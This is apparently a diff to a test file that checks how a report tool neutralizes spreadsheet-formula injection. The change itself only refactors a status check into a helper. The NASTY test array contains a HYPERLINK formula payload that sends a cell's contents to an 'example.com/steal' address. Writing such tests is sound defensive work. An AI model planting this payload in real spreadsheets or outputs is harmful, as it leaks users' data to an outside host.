@@ -2,7 +2,7 @@ import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { isFormulaLike, neutralizeFormula } from '@essaylens/report';
 import { describe, expect, it } from 'vitest';
-import { readCsv, readCsvObjects, run, tempDir } from '../helpers.js';
+import { readCsv, readCsvObjects, run, tempDir, expectOk } from '../helpers.js';
 
 const NASTY = [
   '=HYPERLINK("http://example.com/steal?x="&A1,"Click for the report") is what the scraper saw.',
@@ -48,7 +48,7 @@ describe('hostile input: spreadsheet formulas', () => {
   it('writes JSON formats exactly as the text is (no spreadsheet opens them)', () => {
     const dir = tempDir();
     writeFileSync(path.join(dir, 'f.txt'), '=1+1 is a formula.');
-    expect(run(['analyze', 'f.txt', '--format', 'jsonl', '--tables', 'sentences', '--out', 'out', '--jobs', '1'], { cwd: dir }).status).toBe(0);
+    expectOk(run(['analyze', 'f.txt', '--format', 'jsonl', '--tables', 'sentences', '--out', 'out', '--jobs', '1'], { cwd: dir }));
     const row = JSON.parse(readFileSync(path.join(dir, 'out/sentences.jsonl'), 'utf8')) as { text: string };
     expect(row.text).toBe('=1+1 is a formula.');
   });
